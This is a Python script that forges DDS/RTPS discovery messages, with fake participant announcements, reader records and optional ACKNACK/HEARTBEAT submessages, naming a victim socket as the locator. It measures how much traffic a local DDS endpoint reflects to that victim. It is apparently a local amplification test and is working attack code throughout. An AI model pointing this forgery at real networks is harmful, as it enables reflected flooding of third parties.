# SPDX-License-Identifier: Apache-2.0
"""Announces participants that do not exist, at an address that has not asked for it, and counts.

The forged records name one victim: a socket of ours on another port, which never answers. With --insist
the forger also sends what only somebody who knows the target would send: ACKNACKs, HEARTBEATs and the
record of a reader, to talk it into believing. Prints {"sent": …, "received": …, "packets": …} in bytes of
UDP payload; `received_with_headers` adds the IPv4 and UDP headers of each packet to what the victim got.
"""

import argparse
import json
import select
import socket
import struct
import time

IP_UDP_HEADERS = 28
SPDP_WRITER, SPDP_READER = 0x000100c2, 0x000100c7
SEDP = [(0x000003c2, 0x000003c7), (0x000004c2, 0x000004c7)]


def parameter(pid, value):
    return struct.pack("<HH", pid, len(value)) + value


def locator(pid, address, port):
    return parameter(pid, struct.pack("<iI12x", 1, port) + socket.inet_aton(address))


def submessage(kind, flags, body):
    return struct.pack("<BBH", kind, flags | 1, len(body)) + body


def data(reader, writer, seq, payload):
    return submessage(0x15, 4, struct.pack("<HHIIiI", 0, 16, socket.htonl(reader),
                                           socket.htonl(writer), 0, seq) + payload)


def text(value):
    raw = value.encode() + b"\0"
    return struct.pack("<I", len(raw)) + raw + b"\0" * (-len(raw) % 4)


def announcement(prefix, victim, domain):
    payload = b"\x00\x03\x00\x00"
    payload += parameter(0x0015, b"\x02\x03\x00\x00") + parameter(0x0016, b"\x01\x01\x00\x00")
    payload += parameter(0x0050, prefix + b"\x00\x00\x01\xc1")
    payload += locator(0x0032, *victim) + locator(0x0031, *victim)
    payload += parameter(0x0002, struct.pack("<iI", 100, 0))
    payload += parameter(0x0058, struct.pack("<I", 0xc3f)) + parameter(0x000f, struct.pack("<I", domain))
    return data(SPDP_READER, SPDP_WRITER, 1, payload + parameter(1, b""))


def reader_record(prefix, victim, seq):
    payload = b"\x00\x03\x00\x00" + parameter(0x005a, prefix + b"\x00\x00\x01\x07")
    payload += parameter(0x0005, text("Square")) + parameter(0x0007, text("ShapeType"))
    payload += locator(0x002f, *victim)
    return data(0x000004c7, 0x000004c2, seq, payload + parameter(1, b""))


def insistence(prefix, victim, count):
    """As if it had been listening all the time: it has heard everything and wants more."""
    out = b""
    for writer, reader in SEDP:
        out += submessage(0x07, 0, struct.pack("<IIiIiII", socket.htonl(reader),
                                               socket.htonl(writer), 0, 1, 0, 1, count))
        for base in (1, 2, 1 << 18):
            out += submessage(0x06, 0, struct.pack("<IIiIIII", socket.htonl(reader),
                                                   socket.htonl(writer), 0, base, 1, 1 << 31, count))
    return out + reader_record(prefix, victim, 1)


def drain(victim):
    packets = size = 0
    while select.select([victim], [], [], 0)[0]:
        size += len(victim.recv(65536))
        packets += 1
    return packets, size


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--domain", type=int, default=0)
    parser.add_argument("--participants", type=int, default=1)
    parser.add_argument("--repeat", type=int, default=1, help="announcements of each")
    parser.add_argument("--insist", action="store_true")
    options = parser.parse_args()
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind(("127.0.0.1", 0))
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    target = ("127.0.0.1", 7410 + 250 * options.domain)
    packets = received = sent = 0
    worst = 0.0
    end = time.monotonic() + options.seconds
    turn = 0
    while time.monotonic() < end:
        for n in range(options.participants if turn < options.repeat else 0):
            prefix = b"\x01\x01forged" + struct.pack(">I", n)
            message = b"RTPS\x02\x03\x01\x01" + prefix
            message += announcement(prefix, victim.getsockname(), options.domain)
            if options.insist:
                message += insistence(prefix, victim.getsockname(), turn + 1)
            forger.sendto(message, target)
            sent += len(message)
        turn += 1
        time.sleep(0.1)
        more_packets, more = drain(victim)
        packets, received = packets + more_packets, received + more
        worst = max(worst, (received + packets * IP_UDP_HEADERS) / sent)
    print(json.dumps({"sent": sent, "received": received, "packets": packets,
                      "received_with_headers": received + packets * IP_UDP_HEADERS,
                      "worst": round(worst, 3)}))


if __name__ == "__main__":
    main()
